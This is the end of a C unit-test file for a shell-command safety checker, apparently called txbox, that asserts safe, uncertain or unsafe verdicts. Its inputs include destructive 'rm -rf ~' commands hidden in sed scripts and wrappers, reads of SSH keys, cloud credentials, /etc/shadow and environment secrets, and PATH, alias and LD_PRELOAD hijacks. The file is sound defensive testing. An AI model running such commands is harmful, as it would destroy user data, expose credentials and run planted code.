            assert_int_equal(e[n - 1].len, strlen(cases[i].arg));
            assert_memory_equal(e[n - 1].arg, cases[i].arg, e[n - 1].len);
        }
    }
    /* through the engine */
    assert_verdict("sed --expression='1e touch X' f", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("sed -e p -e '1e rm -rf ~' f", TXBOX_VERDICT_UNSAFE, NULL);
    assert_verdict("sed 's/x/y/w /etc/cron.d/x' f", TXBOX_VERDICT_UNSAFE, NULL);
    assert_verdict("sed -ne 's/x/y/gw out' f", TXBOX_VERDICT_UNCERTAIN, "redirect-write");
    assert_verdict("sed 'R ~/.aws/credentials' f", TXBOX_VERDICT_UNCERTAIN, "secret-read");
    assert_verdict("sed -n '/a/,/b/{p;q}' f", TXBOX_VERDICT_SAFE, "read-only-sed");
}

/* GNU long options by unambiguous prefix, as getopt_long reads them. */
static void test_long_options(void **state)
{
    (void)state;
    static const char *const o[] = {"--in-place", "--expression=", "--silent", "--sandbox",
                                    "--separate", "--quiet",       NULL};
    assert_string_equal(long_option("--in", o), "--in-place");
    assert_string_equal(long_option("--exp=p", o), "--expression=");
    assert_string_equal(long_option("--sil", o), "--silent");
    assert_null(long_option("--s", o)); /* ambiguous */
    assert_null(long_option("--x", o)); /* unknown */
    assert_null(long_option("--", o));
    assert_verdict("sed --in 's/a/b/' f", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("sed --in-pl=.bak 's/a/b/' /etc/hosts", TXBOX_VERDICT_UNSAFE, NULL);
    assert_verdict("sort --out=x f", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("sort --outp x f", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("git diff --ext", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("git config --glob user.name x", TXBOX_VERDICT_UNSAFE, "git-config-global");
    assert_verdict("git push --forc", TXBOX_VERDICT_UNSAFE, "git-force-push");
    assert_verdict("journalctl --vac=1d", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("sort -u names.txt", TXBOX_VERDICT_SAFE, "read-only-sort");
    /* the walker reads wrappers' options the same way */
    assert_verdict("timeout --kill 5 10 rm -rf ~", TXBOX_VERDICT_UNSAFE, NULL);
    assert_verdict("env --split='rm -rf ~'", TXBOX_VERDICT_UNSAFE, NULL);
    assert_verdict("flock /tmp/l --comm 'rm -rf ~'", TXBOX_VERDICT_UNSAFE, NULL);
    assert_verdict("sudo --us root rm -rf /etc", TXBOX_VERDICT_UNSAFE, NULL);
}

static void none_safe(const char *const *cmds, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        txbox_verdict v = check(cmds[i]);
        if (v.verdict == TXBOX_VERDICT_SAFE)
            fail_msg("%s: safe [%s]", cmds[i], v.rule);
    }
}

/* Reads of secrets: paths however written, globs, the environment. */
static void test_secret_reads(void **state)
{
    (void)state;
    const char *secret[] = {
        "cat ~/.ssh/id_rsa",
        "cat $HOME/.ssh/id_rsa",
        "cat ${HOME}/.aws/credentials",
        "cat /root/.ssh/id_ed25519",
        "cat ~/.ssh/*",
        "cat ~/.ss?/id_rsa",
        "cat /etc/./shadow",
        "cd ~/.aws && cat credentials",
        "cd /etc; head -3 shadow",
        "cat /proc/self/environ",
        "cat /proc/$$/environ",
        "cat /proc/self/env*",
        "xargs -0 -n1 < /proc/1/environ",
        "printenv AWS_SECRET_ACCESS_KEY",
        "printenv GITHUB_TOKEN",
        "env",
        "printenv",
        "env -u X",
        "set",
        "export -p",
        "declare -p",
        "declare -x",
        "typeset -p",
        "export",
        "grep -r password ~/.docker/config.json",
        "tail ~/.netrc",
        "base64 ~/.kube/config",
        "strings ~/.config/gh/hosts.yml",
        "cat < ~/.git-credentials",
        "cp ~/.ssh/id_rsa k",
        "grep -r KEY ~",
        "rg token /etc",
        "find ~ -type f -exec cat {} +",
        "grep -rn x /",
        "ps e",
        "ps auxe",
        "jq -n env",
        "jq -n '$ENV'",
        "awk 'BEGIN{print ENVIRON[\"X\"]}'",
    };
    none_safe(secret, ARRAY_SIZE(secret));
    assert_verdict("printenv HOME", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("env ls", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("echo ~/.ssh/id_rsa.pub", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("ls /usr/include/*.h", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("set -euo pipefail", TXBOX_VERDICT_SAFE, NULL);
}

/* A program named with a '/' is the file there, not the one the rules know;
 * and whatever changes what a name runs makes the rest not safe. */
static void test_program_lookup(void **state)
{
    (void)state;
    const char *not_safe[] = {
        "./ls",
        "bin/cat f",
        "../x/cat f",
        "./sh -c ls",
        "/proc/self/cwd/cat f",
        "/usr/bin/../../tmp/cat f",
        "hash -p ./evil cat; cat f",
        "enable -f ./x.so cat; cat f",
        "enable -n echo; echo x",
        "PATH=.:$PATH ls",
        "export PATH=.:$PATH; ls",
        "read PATH <<< .; ls",
        "printf -v PATH .; ls",
        "unset PATH; ls",
        "shopt -s expand_aliases; alias ls=./evil; ls",
        "alias cat=./x",
        "cat() { ./evil; }; cat f",
        "export LD_PRELOAD=./x.so; ls",
        "PAGER='sh -c x'; git log",
        "export BASH_ENV=./x; sh -c ls",
        "declare -x LD_PRELOAD=./x.so; ls",
    };
    none_safe(not_safe, ARRAY_SIZE(not_safe));
    assert_verdict("/usr/bin/cat f", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("/bin/ls -la", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("f=a.txt; cat $f", TXBOX_VERDICT_SAFE, NULL);
}

/* A policy's programs: a later spec of a name replaces the earlier (the
 * built-in one too), in its place; every one of many is found. */
static void test_program_specs(void **state)
{
    (void)state;
    dbuf d;
    dbuf_init(&d, 0);
    dbuf_addstr(&d, "version: 1\nprograms:\n  grep: {options_with_value: [-Q]}\n");
    for (int i = 0; i < 600; i++) {
        char line[96];
        snprintf(line, sizeof line, "  tool%d: {options_with_value: [-%c]}\n", i, 'a' + i % 26);
        dbuf_addstr(&d, line);
    }
    dbuf_addstr(&d, "rules: []\n");
    const char *path = write_tmp("progs.yaml", dbuf_str(&d));
    dbuf_free(&d);
    txbox_policy *p = NULL;
    txbox_error err = {0};
    assert_int_equal(txbox_policy_load(path, NULL, &p, &err), 0);
    size_t greps = 0;
    for (size_t i = 0; i < p->nprogs; i++)
        greps += !strcmp(p->progs[i].name, "grep");
    assert_int_equal(greps, 1);
    const progspec *g = policy_prog(p, "grep");
    assert_non_null(g);
    assert_true(strlist_has(&g->options_with_value, "-Q"));
    for (int i = 0; i < 600; i++) {
        char name[16], opt[4];
        snprintf(name, sizeof name, "tool%d", i);
        snprintf(opt, sizeof opt, "-%c", 'a' + i % 26);
        const progspec *t = policy_prog(p, name);
        assert_non_null(t);
        assert_true(strlist_has(&t->options_with_value, opt));
    }
    txbox_policy_free(p);
}

static int remove_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
    (void)st, (void)flag, (void)ftw;
    return remove(path);
}

int main(void)
{
    snprintf(tmpdir, sizeof tmpdir, "/tmp/txbox-policy-test-XXXXXX");
    if (!mkdtemp(tmpdir))
        return 1;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_word_resolution),
        cmocka_unit_test(test_obfuscations_unsafe),
        cmocka_unit_test(test_verdicts),
        cmocka_unit_test(test_network),
        cmocka_unit_test(test_bad_input),
        cmocka_unit_test(test_argv),
        cmocka_unit_test(test_names),
        cmocka_unit_test(test_policy_errors),
        cmocka_unit_test(test_program_specs),
        cmocka_unit_test(test_policy_override),
        cmocka_unit_test(test_workspace_paths),
        cmocka_unit_test(test_threads),
        cmocka_unit_test(test_builtin_document),
        cmocka_unit_test(test_workspace_layer),
        cmocka_unit_test(test_workspace_trust),
        cmocka_unit_test(test_workspace_policy_paths),
        cmocka_unit_test(test_sed_scripts),
        cmocka_unit_test(test_long_options),
        cmocka_unit_test(test_secret_reads),
        cmocka_unit_test(test_program_lookup),
    };
    int rc = cmocka_run_group_tests(tests, setup, teardown);
    /* all the tests wrote there, whatever it is */
    if (nftw(tmpdir, remove_entry, 16, FTW_DEPTH | FTW_PHYS) < 0)
        fprintf(stderr, "cannot remove %s\n", tmpdir);
    return rc;
}
